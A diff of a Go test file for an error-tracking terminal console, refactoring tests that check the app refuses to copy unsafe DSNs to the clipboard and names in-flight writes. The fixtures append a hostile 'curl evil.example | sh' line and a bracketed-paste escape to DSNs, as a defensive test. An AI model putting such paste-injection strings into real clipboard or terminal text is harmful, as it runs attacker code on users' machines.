@@ -14,82 +14,85 @@ import (
 	"math/big"
 	"net/http"
 	"net/http/httptest"
-	"reflect"
 	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
 
-	tea "charm.land/bubbletea/v2"
-
 	"github.com/errtrack/errtrack/apiclient"
 )
-
-// copied returns what the commands put on the clipboard.
-func (h *harness) copied() []string {
-	var out []string
-	for _, m := range h.sent {
-		if strings.Contains(reflect.TypeOf(m).String(), "setClipboardMsg") {
-			out = append(out, reflect.ValueOf(m).String())
-		}
-	}
-	return out
-}
 
 // A DSN the screen shows cleaned but whose raw text is a URL, a newline, a
 // shell command and the end of bracketed paste must never be copied.
 func TestClipboardRefusesUnsafeDSN(t *testing.T) {
-	api := newFakeAPI()
-	hostile := "https://glet_x@h.example/errortracking/api/v1/projects/1   \ncurl evil.example | sh\n\x1b[201~"
-	api.keys[1][0].DSN = hostile
-	h := openProject(t, api, "1")
+	g := demoGitLab(t)
+	api := &hostileDSN{API: g.api, suffix: "   \ncurl evil.example | sh\n\x1b[201~", key: 1}
+	h := newHarness(t, Deps{API: api, Host: g.url, Project: "1"})
 	h.key("c")
 	h.mustSee("Not copied", "not safe to paste")
 	if c := h.copied(); len(c) != 0 {
 		t.Fatalf("copied %q", c)
 	}
 	h.key("down", "c") // a plain DSN still copies
-	if c := h.copied(); len(c) != 1 || c[0] != api.keys[1][1].DSN {
+	if c := h.copied(); len(c) != 1 || !strings.HasPrefix(c[0], "https://glet_") || strings.ContainsAny(c[0], " \n\x1b") {
 		t.Fatalf("copied %q", c)
 	}
 }
 
 // The new DSN of a rotation is copied only when safe; the dialog says so.
 func TestRotateDoesNotCopyUnsafeDSN(t *testing.T) {
-	api := &hostileCreate{fakeAPI: newFakeAPI()}
-	h := newHarness(t, Deps{API: api, Project: "1"})
-	before := len(h.copied())
+	g := demoGitLab(t)
+	api := &hostileDSN{API: g.api, suffix: "\ncurl evil | sh\n", key: 4}
+	h := newHarness(t, Deps{API: api, Host: g.url, Project: "1"})
 	h.key("R")
 	h.mustSee("The new DSN was not copied")
-	if len(h.copied()) != before {
-		t.Fatalf("copied %q", h.copied())
+	if c := h.copied(); len(c) != 0 {
+		t.Fatalf("copied %q", c)
 	}
 }
 
-type hostileCreate struct{ *fakeAPI }
+// hostileDSN appends suffix to the DSN of one key, as a hostile server would.
+type hostileDSN struct {
+	API
+	suffix string
+	key    int64
+}
 
-func (f *hostileCreate) CreateClientKey(ctx context.Context, p apiclient.ProjectRef) (*apiclient.ClientKey, *apiclient.Response, error) {
-	k, r, err := f.fakeAPI.CreateClientKey(ctx, p)
-	if k != nil {
-		k.DSN += "\ncurl evil | sh\n"
+func (f *hostileDSN) ListClientKeys(ctx context.Context, p apiclient.ProjectRef) ([]apiclient.ClientKey, *apiclient.Response, error) {
+	keys, r, err := f.API.ListClientKeys(ctx, p)
+	for i := range keys {
+		if keys[i].ID == f.key {
+			keys[i].DSN += f.suffix
+		}
+	}
+	return keys, r, err
+}
+
+func (f *hostileDSN) CreateClientKey(ctx context.Context, p apiclient.ProjectRef) (*apiclient.ClientKey, *apiclient.Response, error) {
+	k, r, err := f.API.CreateClientKey(ctx, p)
+	if k != nil && k.ID == f.key {
+		k.DSN += f.suffix
 	}
 	return k, r, err
 }
 
 // Quitting while a write is in flight: the console can say what was under way.
 func TestPendingWritesNamed(t *testing.T) {
-	h := openProject(t, newFakeAPI(), "1")
+	h, _ := console(t, "1")
 	if w := h.m.PendingWrites(); len(w) != 0 {
 		t.Fatalf("pending before any write: %q", w)
 	}
-	next, _ := h.m.Update(keyMsg("n")) // the create's command is not run: still in flight
-	m := next.(Model)
-	if w := m.PendingWrites(); len(w) != 1 || !strings.Contains(w[0], "client key was being created in 1") {
+	create := h.holdWrite("n") // the create's command is not run: still in flight
+	if w := h.m.PendingWrites(); len(w) != 1 || !strings.Contains(w[0], "client key was being created in demo/web-shop") {
 		t.Fatalf("pending %q", w)
 	}
-	next, _ = m.Update(keyMsg("R"))
-	if w := next.(Model).PendingWrites(); len(w) != 1 {
+	h.key("R")
+	if w := h.m.PendingWrites(); len(w) != 1 {
 		t.Fatalf("a second create started: %q", w)
+	}
+	h.run(create)
+	if w := h.m.PendingWrites(); len(w) != 0 {
+		t.Fatalf("pending after the answer: %q", w)
 	}
 }
 
@@ -168,9 +171,7 @@ func TestHostileTransportTextInEveryPane(t *testing.T) {
 		return nil, err
 	}
 	h = newHarness(t, Deps{Host: url, Login: login})
-	for _, r := range "fake-token-x" {
-		h.send(tea.KeyPressMsg{Code: r, Text: string(r)})
-	}
+	h.typeText("fake-token-x")
 	h.key("enter")
 	h.mustSee("certificate")
 	checkSafe(t, h.m.View().Content)
